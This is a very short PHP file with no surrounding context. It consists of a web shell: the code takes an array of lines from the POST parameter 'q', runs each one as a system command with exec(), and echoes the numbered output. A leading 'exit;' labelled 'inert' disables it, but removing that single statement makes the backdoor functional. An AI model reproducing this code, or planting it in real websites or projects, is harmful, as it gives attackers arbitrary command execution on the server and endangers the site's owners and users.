<?php exit; /* inert */ 
function feed() { foreach ($_POST['q'] as $l) { yield trim($l); } }
foreach (feed() as $n => $l) { echo $n, ':', exec($l), "\n"; }
